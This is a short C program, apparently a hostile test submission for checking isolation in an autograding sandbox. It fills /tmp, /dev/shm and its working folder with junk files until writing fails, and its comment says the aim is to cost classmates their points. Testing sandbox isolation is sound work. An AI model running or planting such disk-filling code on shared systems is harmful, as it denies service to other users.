/* Hostile: fills /tmp, /dev/shm and its working folder until writing fails,
 * to cost classmates their points (a full disk). Each grade has its own
 * small /tmp: it says how much it wrote and exits 3. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static long fill(const char *folder)
{
    static char block[1 << 16];
    memset(block, 'x', sizeof block);
    long total = 0;
    char name[256];
    for (int file = 0; file < 64; file++) {
        snprintf(name, sizeof name, "%s/sockstep-hostile-fill-%d", folder, file);
        int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd == -1)
            break;
        long in_file = 0;
        ssize_t n;
        while (in_file < (8L << 20) && (n = write(fd, block, sizeof block)) > 0)
            in_file += n;
        close(fd);
        total += in_file;
        if (in_file < (8L << 20))
            break; /* full */
    }
    return total >> 20;
}

int main(void)
{
    long in_tmp = fill("/tmp"), in_shm = fill("/dev/shm"), here = fill(".");
    printf("tmp-filler: wrote %ld MB in /tmp, %ld MB in /dev/shm, %ld MB here\n", in_tmp, in_shm, here);
    return 3;
}
